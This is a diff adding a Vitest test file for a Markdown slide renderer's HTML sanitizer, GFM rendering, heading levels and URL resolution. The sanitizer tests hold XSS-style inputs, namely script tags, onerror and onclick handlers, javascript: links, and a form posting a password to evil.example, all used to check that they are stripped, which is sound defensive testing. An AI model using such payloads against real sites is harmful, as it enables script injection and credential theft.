@@ -1,0 +1,171 @@
+import { describe, expect, it, vi } from "vitest";
+import { renderSlideHtml, shallowestHeading, type RenderOptions } from "./render";
+import { parseMarkdown } from "./split";
+
+function render(markdown: string, options?: RenderOptions): string {
+  return renderSlideHtml(parseMarkdown(markdown), options);
+}
+
+/** Tag names of the headings in rendered HTML, in order. */
+function headings(html: string): string[] {
+  return [...html.matchAll(/<(h[1-6])>/g)].map((match) => match[1]!);
+}
+
+describe("renderSlideHtml: sanitizing raw HTML", () => {
+  it("drops <script> with its code", () => {
+    const html = render("Before\n\n<script>alert('xss')</script>\n\nAfter");
+    expect(html).not.toMatch(/<script/i);
+    expect(html).not.toContain("alert");
+    expect(html).toContain("<p>Before</p>");
+    expect(html).toContain("<p>After</p>");
+  });
+
+  it("drops event handler attributes but keeps the element", () => {
+    const html = render('<img src="diagram.png" alt="Diagram" onerror="alert(1)">\n\n<p onclick="steal()">Text</p>');
+    expect(html).not.toMatch(/onerror|onclick|alert|steal/);
+    expect(html).toContain('src="diagram.png"');
+    expect(html).toContain('alt="Diagram"');
+    expect(html).toContain("<p>Text</p>");
+  });
+
+  it("drops javascript: URLs from Markdown and HTML links", () => {
+    const html = render('[click](javascript:alert(1))\n\n<a href="javascript:alert(2)">raw</a>\n\n<a href="JaVaScRiPt:alert(3)">mixed</a>');
+    expect(html).not.toMatch(/javascript:/i);
+    expect(html).toContain("<a>click</a>");
+    expect(html).toContain("<a>raw</a>");
+  });
+
+  it("drops <iframe>, <style> (with its CSS) and <form>", () => {
+    const html = render(
+      [
+        '<iframe src="https://evil.example/"></iframe>',
+        "<style>body { display: none }</style>",
+        '<form action="https://evil.example/collect" method="post"><input type="text" name="password"><button type="submit">Send</button></form>',
+      ].join("\n\n"),
+    );
+    expect(html).not.toMatch(/<iframe|<style|<form|evil\.example|action=|type="text"|<button/i);
+    expect(html).not.toContain("display: none");
+  });
+
+  it("drops inline styles and author classes, and prefixes ids so they cannot clobber the page", () => {
+    const html = render('<div id="main" class="hidden" style="position:fixed">x</div>');
+    expect(html).toBe('<div id="user-content-main">x</div>');
+  });
+
+  it("keeps <kbd> and <details>/<summary>", () => {
+    const html = render("Press <kbd>Ctrl</kbd>+<kbd>C</kbd>.\n\n<details>\n<summary>Show the answer</summary>\n\nThe **root** user.\n\n</details>");
+    expect(html).toContain("<kbd>Ctrl</kbd>+<kbd>C</kbd>");
+    expect(html).toMatch(/<details>\s*<summary>Show the answer<\/summary>[\s\S]*<strong>root<\/strong>[\s\S]*<\/details>/);
+  });
+});
+
+describe("renderSlideHtml: GitHub Flavored Markdown", () => {
+  it("renders a table inside a focusable, labelled scroll region", () => {
+    const html = render("| Key | Action |\n| --- | --- |\n| → | Next |");
+    expect(html).toMatch(/^<div class="table-scroll" tabindex="0" role="region" aria-label="Table"><table>/);
+    expect(html).toContain("<th>Key</th>");
+    expect(html).toContain("<td>Next</td>");
+    expect(html).toMatch(/<\/table><\/div>$/);
+    expect(html.match(/table-scroll/g)).toHaveLength(1);
+  });
+
+  it("wraps every table of a slide", () => {
+    const html = render("| a |\n| - |\n| 1 |\n\ntext\n\n| b |\n| - |\n| 2 |");
+    expect(html.match(/<div class="table-scroll"[^>]*><table>/g)).toHaveLength(2);
+  });
+
+  it("renders strikethrough and autolinks", () => {
+    const html = render("~~old~~ and https://example.com/docs");
+    expect(html).toBe('<p><del>old</del> and <a href="https://example.com/docs">https://example.com/docs</a></p>');
+  });
+
+  it("renders task lists with disabled checkboxes named by their item's text", () => {
+    const html = render("- [x] Turn on MFA\n- [ ] Remove the root access keys");
+    expect(html).toContain('<input type="checkbox" checked disabled aria-label="Turn on MFA">');
+    expect(html).toContain('<input type="checkbox" disabled aria-label="Remove the root access keys">');
+  });
+
+  it("highlights fenced code at build time and makes the block focusable", () => {
+    const html = render("```ts\nconst answer: number = 42;\n```");
+    expect(html).toMatch(/^<pre tabindex="0"><code class="hljs language-ts">/);
+    expect(html).toContain('<span class="hljs-keyword">const</span>');
+    expect(html).toContain('<span class="hljs-number">42</span>');
+  });
+
+  it("does not guess the language of a fence without one", () => {
+    const html = render("```\nconst x = 1;\n```");
+    expect(html).toBe('<pre tabindex="0"><code>const x = 1;\n</code></pre>');
+  });
+});
+
+describe("renderSlideHtml: headings", () => {
+  it("shifts the shallowest heading to h2 by default", () => {
+    expect(headings(render("### Three\n\n#### Four\n\n###### Six"))).toEqual(["h2", "h3", "h5"]);
+    expect(headings(render("# One\n\n## Two"))).toEqual(["h2", "h3"]);
+    expect(headings(render("## Two\n\n### Three"))).toEqual(["h2", "h3"]);
+  });
+
+  it("shifts to the level asked for, never past h6", () => {
+    expect(headings(render("# One\n\n###### Six", { topHeadingLevel: 3 }))).toEqual(["h3", "h6"]);
+    expect(headings(render("#### Four\n\n##### Five", { topHeadingLevel: 1 }))).toEqual(["h1", "h2"]);
+  });
+
+  it("counts raw HTML headings too", () => {
+    expect(headings(render("<h1>Raw</h1>\n\n### Markdown"))).toEqual(["h2", "h4"]);
+  });
+
+  it("leaves a slide without headings alone", () => {
+    expect(render("Just text.")).toBe("<p>Just text.</p>");
+  });
+
+  it("does not change the tree it was given", () => {
+    const tree = parseMarkdown("### Three\n\n![a](a.png)");
+    const before = structuredClone(tree);
+    renderSlideHtml(tree, { resolveUrl: () => "/elsewhere.png" });
+    expect(tree).toEqual(before);
+  });
+});
+
+describe("shallowestHeading", () => {
+  it("finds the smallest depth, or undefined", () => {
+    expect(shallowestHeading(parseMarkdown("#### a\n\n### b\n\n##### c"))).toBe(3);
+    expect(shallowestHeading(parseMarkdown("text"))).toBeUndefined();
+  });
+});
+
+describe("renderSlideHtml: URLs", () => {
+  it("passes relative image and link URLs to resolveUrl and uses its answer", () => {
+    const resolveUrl = vi.fn((url: string, use: "image" | "link") => `/resolved/${use}/${url}`);
+    const html = render("![Diagram](images/diagram.png)\n\n[Next lesson](2024-3-15-next.md#top)", { resolveUrl });
+    expect(resolveUrl.mock.calls).toEqual([
+      ["images/diagram.png", "image"],
+      ["2024-3-15-next.md#top", "link"],
+    ]);
+    expect(html).toContain('<img src="/resolved/image/images/diagram.png" alt="Diagram" loading="lazy" decoding="async">');
+    expect(html).toContain('<a href="/resolved/link/2024-3-15-next.md#top">Next lesson</a>');
+  });
+
+  it("resolves URLs in raw HTML too", () => {
+    const resolveUrl = vi.fn(() => "/content-assets/a.png");
+    expect(render('<img src="a.png" alt="A">', { resolveUrl })).toContain('src="/content-assets/a.png"');
+    expect(resolveUrl).toHaveBeenCalledWith("a.png", "image");
+  });
+
+  it("keeps the URL as written when resolveUrl returns undefined", () => {
+    const resolveUrl = vi.fn(() => undefined);
+    const html = render("![x](images/x.png) [site](https://example.com/)", { resolveUrl });
+    expect(resolveUrl).toHaveBeenCalledTimes(2);
+    expect(html).toContain('src="images/x.png"');
+    expect(html).toContain('href="https://example.com/"');
+  });
+
+  it("keeps URLs as written without a resolver, and makes images lazy", () => {
+    expect(render("![x](images/x.png)")).toBe('<p><img src="images/x.png" alt="x" loading="lazy" decoding="async"></p>');
+  });
+
+  it("never sees a javascript: URL, which the sanitizer dropped first", () => {
+    const resolveUrl = vi.fn(() => undefined);
+    render("[bad](javascript:alert(1))", { resolveUrl });
+    expect(resolveUrl).not.toHaveBeenCalled();
+  });
+});
